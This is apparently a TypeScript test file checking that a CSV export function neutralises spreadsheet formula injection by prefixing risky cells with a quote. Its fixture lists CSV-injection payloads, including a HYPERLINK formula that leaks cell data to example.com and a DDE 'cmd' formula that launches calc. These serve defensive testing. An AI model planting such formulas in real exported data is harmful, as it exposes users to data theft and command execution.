import { describe, expect, it } from 'vitest';
import { csvCell } from '../../../experiments/report/csv-cell.js';
import { recordSetOf } from '../../../experiments/run/record-set.js';
import { tidyCsv } from '../../../experiments/report/csv-tables.js';
import { tidyTables } from '../../../experiments/report/tidy/tidy-tables.js';
import { TIDY_TABLES } from '../../../experiments/report/tidy/tidy-columns.js';
import { loadExperiment } from '../../../experiments/load/index.js';
import type { ReplicationRecord } from '../../../experiments/run/record-log.js';
import type { RunManifest } from '../../../experiments/run/run-files.js';
import { columnNames, rowLayout } from '../../../workers/result-rows.js';
import { csvRecords, parseCsv } from './parse-csv.js';

/** Cells a spreadsheet would run as formulas (OWASP, "CSV Injection"): each begins with =, +, -, @, a tab or a carriage return. */
const FORMULAS = ['=HYPERLINK("https://example.com?leak="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tTAB=1', '\r=1'];

describe('csvCell', () => {
  it('prefixes a single quote to text that begins like a formula, and has the cell quoted', () => {
    for (const text of FORMULAS) expect(csvCell(text), JSON.stringify(text)).toEqual({ value: `'${text}`, quoted: true });
  });

  it('does the same for the full-width =, +, - and @ that some spreadsheets read as the ASCII ones', () => {
    for (const text of ['\uFF1D1+1', '\uFF0B1', '\uFF0D1', '\uFF20SUM(A1)']) expect(csvCell(text)).toEqual({ value: `'${text}`, quoted: true });
  });

  it('leaves other text as it is, a formula character later in the text included', () => {
    for (const text of ['base', 'second-shift', 'a = b', ' =1', '', "'quoted", '3-2']) expect(csvCell(text)).toBe(text);
  });
});

describe('the CSV tables, written from plans whose names and descriptions look like formulas', () => {
  it('a table reads back with every such text cell prefixed by a quote, and negative numbers still numbers', () => {
    const text = tidyCsv({ spec: TIDY_TABLES.failures, rows: [[FORMULAS[0], 'h', -3.5, FORMULAS[3], 0, '-minus']] });
    expect(parseCsv(text)).toEqual([
      ['experiment', 'configHash', 'seed', 'plan', 'replication', 'error'],
      [`'${FORMULAS[0]}`, 'h', '-3.5', `'${FORMULAS[3]}`, '0', "'-minus"],
    ]);
    // Neutralised cells are quoted in the file; a number is not.
    expect(text.split('\n')[1]).toMatch(/^"'=HYPERLINK\(""https:\/\/example\.com\?leak=""&A1,""click""\)",h,-3\.5,"'@SUM\(A1:A9\)",0,"'-minus"$/);
  });

  it('replication-measures and failures read back with formula-like plan names and errors prefixed by a quote', () => {
    const experiment = loadExperiment('test/experiments/fixtures/small-project.yaml');
    const names = ['=1+1', '+cmd', '@plan'];
    const plans = experiment.plans.map((p, i) => ({ ...p, name: names[i] }));
    const manifest: RunManifest = { experiment: experiment.name, description: experiment.description, configHash: experiment.configHash, seed: 11, replications: 1, shard: null, plans };
    const columns = columnNames(rowLayout(plans[0].model));
    const row = columns.map((c) => (c === 'replication' ? 0 : c === 'completed' ? 1 : c === 'bottleneck' ? 0 : -1.25));
    const records: ReplicationRecord[] = [
      { plan: names[0], replication: 0, row },
      { plan: names[1], replication: 0, row },
      { plan: names[2], replication: 0, seed: 11, error: '-failed: =A1', stack: '' },
    ];
    const tables = tidyTables(manifest, recordSetOf(manifest, records));
    const out = csvRecords(tidyCsv(tables.replicationMeasures));
    expect([...new Set(out.map((r) => r.plan))]).toEqual(["'=1+1", "'+cmd"]);
    expect(csvRecords(tidyCsv(tables.failures)).map((r) => [r.plan, r.error])).toEqual([["'@plan", "'-failed: =A1"]]);
    expect(out.find((r) => r.measure === 'accepted')!.value).toBe('-1.25');
  });
});
